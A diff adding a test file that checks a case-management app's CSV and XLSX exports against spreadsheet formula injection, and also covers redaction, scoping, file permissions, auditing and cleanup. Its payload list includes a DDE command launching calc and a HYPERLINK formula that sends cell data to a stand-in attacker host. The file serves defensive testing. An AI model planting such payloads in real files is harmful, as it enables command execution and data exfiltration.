@@ -1,0 +1,132 @@
+import { mkdtemp, readdir, readFile, rm, stat } from 'node:fs/promises'
+import os from 'node:os'
+import path from 'node:path'
+import { parse } from 'csv-parse/sync'
+import { readSheet } from 'read-excel-file/node'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { harmless, writeTable } from '../../src/documents/table-files.ts'
+import { auditExport, type ExportName, exportTable } from '../../src/store/exports.ts'
+import { findScope } from '../../src/store/organisations.ts'
+import { type ApiWorld, apiWorld, TIMEZONE } from '../http/api/world.ts'
+
+const SIGNS = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠', '|', '%']
+const PAYLOADS = SIGNS.flatMap((sign) => [
+  `${sign}1+1`,
+  `${sign}cmd|' /C calc'!A0`,
+  `${sign}HYPERLINK("http://evil.example/?"&A1,"点这里")`,
+  `看这里\n${sign}1+1`,
+  `看这里\r\n${sign}SUM(A1:A9)`,
+  `一;${sign}1+1`,
+  `一,"${sign}1+1`,
+  `"${sign}1+1"`,
+  `'${sign}1+1`,
+])
+
+let world: ApiWorld
+let folder: string
+beforeAll(async () => {
+  world = await apiWorld()
+  folder = await mkdtemp(path.join(os.tmpdir(), 'zeren-export-'))
+  for (const [i, payload] of PAYLOADS.entries()) {
+    const code = `X2-${String(i + 1).padStart(4, '0')}`
+    await world.open({
+      code,
+      text: payload,
+      placeText: payload,
+      building: payload,
+      unit: payload,
+      occurredTime: payload,
+    })
+    await world.checkIn({ zone: 'X2', text: payload, placeText: payload })
+  }
+  await world.database.pool.query('update case_history h set reason = c.text from cases c where c.id = h.case_id')
+  await world.open({ code: 'D1-0001', category: 'dispute', text: '两家为漏水吵架' })
+})
+afterAll(async () => {
+  await world.close()
+  await rm(folder, { recursive: true })
+})
+
+async function write(what: ExportName, format: 'csv' | 'xlsx', scopePath = '/'): Promise<string> {
+  const scope = await findScope(world.deps.db, scopePath)
+  if (!scope) throw new Error(scopePath)
+  const file = path.join(folder, `${what}.${format}`)
+  await writeTable(file, {
+    format,
+    ...exportTable(world.deps.db, what, { scope, from: undefined, to: undefined, timezone: TIMEZONE }),
+  })
+  return file
+}
+
+/** A cell that a spreadsheet program would work out, in any line of it. */
+const dangerous = (cell: string) => cell.split(/\r\n|\n|\r/).some((line) => /^[=+\-@\t\r＝＋－＠|%]/.test(line))
+const readCsv = async (file: string): Promise<string[][]> => parse(await readFile(file), { bom: true })
+
+describe('an export', () => {
+  test.each(['cases', 'check-ins'] as const)(
+    'of %s as CSV has no cell that acts, and every text comes back',
+    async (what) => {
+      const file = await write(what, 'csv')
+      const [header = [], ...rows] = await readCsv(file)
+      expect(rows).toHaveLength(PAYLOADS.length + (what === 'cases' ? 1 : 0))
+      expect(rows.flat().filter(dangerous)).toEqual([])
+      const texts = rows.map((row) => row[header.indexOf('内容')])
+      for (const payload of PAYLOADS) expect(texts).toContain(harmless(payload))
+      expect((await readFile(file)).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]))
+    },
+  )
+
+  test.each(['cases', 'check-ins'] as const)(
+    'of %s as XLSX has strings only, and every text comes back as it was',
+    async (what) => {
+      const rows = await readSheet(await readFile(await write(what, 'xlsx')), { trim: false })
+      const [header = [], ...cells] = rows
+      expect(cells).toHaveLength(PAYLOADS.length + (what === 'cases' ? 1 : 0))
+      expect(new Set(cells.flat().map((cell) => (typeof cell === 'object' ? 'empty' : typeof cell)))).toEqual(
+        new Set(['string', 'empty']),
+      )
+      const texts = cells.map((row) => row[header.indexOf('内容')])
+      // XML knows one kind of line end.
+      for (const payload of PAYLOADS) expect(texts.map(tidy)).toContain(tidy(payload))
+    },
+  )
+
+  test('withholds the text of what is sensitive', async () => {
+    const all = (await readCsv(await write('cases', 'csv'))).flat().join('\n')
+    expect(all).toContain('D1-0001')
+    expect(all).not.toContain('漏水')
+  })
+
+  test('keeps to its part of the tree', async () => {
+    const rows = await readCsv(await write('cases', 'csv', '/东山街道'))
+    expect(rows.slice(1).map((r) => r[0])).toEqual(['D1-0001'])
+  })
+
+  test('is for its owner’s eyes only, and is noted', async () => {
+    const file = await write('cases', 'csv')
+    expect((await stat(file)).mode & 0o777).toBe(0o600)
+    const scope = await findScope(world.deps.db, '/')
+    if (!scope) throw new Error('/')
+    const query = { scope, from: undefined, to: undefined, timezone: TIMEZONE }
+    await auditExport(world.deps.db, query, { what: 'cases', count: 1, actor: 'cli', now: world.clock.now })
+    const { rows } = await world.database.pool.query("select actor, action from audit where action = 'export'")
+    expect(rows).toEqual([{ actor: 'cli', action: 'export' }])
+  })
+
+  test('that fails half-way leaves nothing behind', async () => {
+    async function* rows() {
+      yield ['一']
+      throw new Error('the database went away')
+    }
+    const file = path.join(folder, 'broken.csv')
+    for (const format of ['csv', 'xlsx'] as const) {
+      await expect(writeTable(file, { format, header: ['甲'], rows: rows() })).rejects.toThrow('went away')
+    }
+    expect((await readdir(folder)).filter((name) => name.startsWith('broken'))).toEqual([])
+  })
+})
+
+/** Line ends as XML reads them back. */
+function tidy(value: unknown): string {
+  return String(value).replace(/\r\n?/g, '\n')
+}
